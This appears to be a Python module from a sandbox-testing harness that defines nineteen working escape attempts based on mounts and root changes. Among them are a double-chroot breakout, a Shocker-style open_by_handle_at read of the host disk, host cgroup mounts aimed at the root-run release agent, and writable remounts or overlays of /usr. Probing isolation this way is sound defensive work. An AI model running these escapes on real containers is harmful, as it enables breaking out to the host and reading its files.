"""Mounts: new ones, other views of old ones, and the ways out of a root folder."""

import ctypes
import os
import struct
from pathlib import Path
from typing import Final

from workers.attacks.attack import Attack
from workers.attacks.attempt import any_of, first, openable, read
from workers.attacks.bait import Bait
from workers.sandbox import linux

_BIND: Final = 4096
_REMOUNT: Final = 32
_MOVE: Final = 8192
_DETACH: Final = 2
_CWD: Final = -100
_CLONE: Final = 1


def fresh(bait: Bait) -> str:
    """Mount an empty file system over one that is shown."""
    return any_of(lambda place: _mount(b"tmpfs", place, b"tmpfs", 0), (b"/etc", b"/usr", b"/mnt", b"/workspace"))


def bind(bait: Bait) -> str:
    """Show the workspace where programs are."""
    return any_of(lambda place: _mount(b"/workspace", place, None, _BIND), (b"/usr", b"/usr/bin", b"/srv"))


def writable_system(bait: Bait) -> str:
    """Make the host's programs writable."""
    return any_of(lambda place: _mount(b"none", place, None, _REMOUNT | _BIND), (b"/usr", b"/", b"/etc"))


def writable_by_attributes(bait: Bait) -> str:
    """Make the host's programs writable, by mount_setattr."""
    wanted = struct.pack("QQQQ", 0, 1, 0, 0)
    return any_of(lambda place: f"{linux.call('mount_setattr', _CWD, place, 0, wanted, 32)}", (b"/usr", b"/"))


def fresh_proc(bait: Bait) -> str:
    """Mount another /proc, without what hides the host's."""
    return any_of(lambda place: _mount(b"proc", place, b"proc", 0), (b"/tmp", b"/workspace", b"/proc"))


def host_control(bait: Bait) -> str:
    """Mount the host's control groups, whose release agent runs as root."""
    return any_of(lambda kind: _mount(b"none", b"/tmp", kind, 0, b"rdma"), (b"cgroup", b"cgroup2", b"sysfs"))


def overlay(bait: Bait) -> str:
    """Lay a writable layer over the host's programs."""
    options = b"lowerdir=/usr,upperdir=/workspace,workdir=/tmp"
    return _mount(b"overlay", b"/usr", b"overlay", 0, options)


def user_file_system(bait: Bait) -> str:
    """Open the device by which a program serves a file system."""
    return openable("/dev/fuse", os.O_RDWR)


def uncover(bait: Bait) -> str:
    """Unmount what lies over the host's files."""
    return any_of(lambda place: f"{linux.call('umount2', place, _DETACH)}", (b"/proc", b"/usr", b"/workspace", b"/"))


def move(bait: Bait) -> str:
    """Move a mount away from what it covers."""
    return _mount(b"/usr", b"/workspace", None, _MOVE)


def copy_tree(bait: Bait) -> str:
    """Copy a tree of mounts, by open_tree, and attach it elsewhere."""
    tree = linux.call("open_tree", _CWD, b"/", _CLONE)
    return f"{linux.call('move_mount', tree, b'', _CWD, b'/tmp', 4)}"


def new_interface(bait: Bait) -> str:
    """Make a mount by the newer calls, fsopen and fspick."""
    return first([lambda: f"{linux.call('fsopen', b'tmpfs', 0)}", lambda: f"{linux.call('fspick', _CWD, b'/usr', 0)}"])


def another_root(bait: Bait) -> str:
    """Change the root by pivot_root."""
    return f"{linux.call('pivot_root', b'/workspace', b'/workspace')}"


def break_root(bait: Bait) -> str:
    """Leave a root folder by a second one inside it."""
    Path("/workspace/.jail").mkdir(exist_ok=True)
    outside = os.open("/", os.O_RDONLY)
    os.chroot("/workspace/.jail")
    os.fchdir(outside)
    for _ in range(20):
        os.chdir("..")
    os.chroot(".")
    return read(bait.file)


def swap(bait: Bait) -> str:
    """Swap the host's memory to a file of one's own."""
    Path("/workspace/.swap").write_bytes(bytes(4096))
    return f"{linux.call('swapon', b'/workspace/.swap', 0)}"


def quota(bait: Bait) -> str:
    """Change the quotas of the disk."""
    return f"{linux.call('quotactl', 0x80000100, None, 0, None)}"


def handle(bait: Bait) -> str:
    """Open a file of the host's disk by its number, as the Shocker attack did, past every view."""
    mount = os.open("/workspace", os.O_RDONLY)
    for number in (2, 128, 256):  # the root folder of ext4, xfs and btrfs
        buffer = ctypes.create_string_buffer(struct.pack("=IiQ", 8, 1, number), 24)
        try:
            root = linux.call("open_by_handle_at", mount, buffer.raw, os.O_RDONLY)
        except OSError as error:
            refusal = error
            continue
        return f"opened the root of the disk: {os.listdir(root)}"
    raise refusal


def handle_name(bait: Bait) -> str:
    """Learn the number of a file, which is half of opening it past every view."""
    buffer = struct.pack("=Ii", 64, 0) + bytes(128)
    return f"{linux.call('name_to_handle_at', _CWD, b'/workspace', buffer, bytes(8), 0)}"


def watch_everything(bait: Bait) -> str:
    """Watch every access on the disk, by fanotify."""
    return f"holds {linux.call('fanotify_init', 0, 0)}"


def _mount(source: bytes, place: bytes, kind: bytes | None, flags: int, options: bytes | None = None) -> str:
    linux.call("mount", source, place, kind, flags, options)
    return f"mounted {source.decode()} on {place.decode()}"


_VIEW: Final = "another view than the one that was given"
_PROGRAMS: Final = "the programs that others inside run, and perhaps the host's"

ATTACKS: Final = (
    Attack(fresh, _VIEW),
    Attack(bind, _PROGRAMS),
    Attack(writable_system, _PROGRAMS),
    Attack(writable_by_attributes, _PROGRAMS),
    Attack(fresh_proc, _VIEW),
    Attack(host_control, "root of the host"),
    Attack(overlay, _PROGRAMS),
    Attack(user_file_system, "files that lie to whoever reads them"),
    Attack(uncover, "what the mounts cover"),
    Attack(move, "what the mounts cover"),
    Attack(copy_tree, _VIEW),
    Attack(new_interface, _VIEW),
    Attack(another_root, _VIEW),
    Attack(break_root, "the host's files"),
    Attack(swap, "the host's memory"),
    Attack(quota, "the host's disk"),
    Attack(handle, "every file of the host's disk"),
    Attack(handle_name, "every file of the host's disk"),
    Attack(watch_everything, "who on the host reads what"),
)
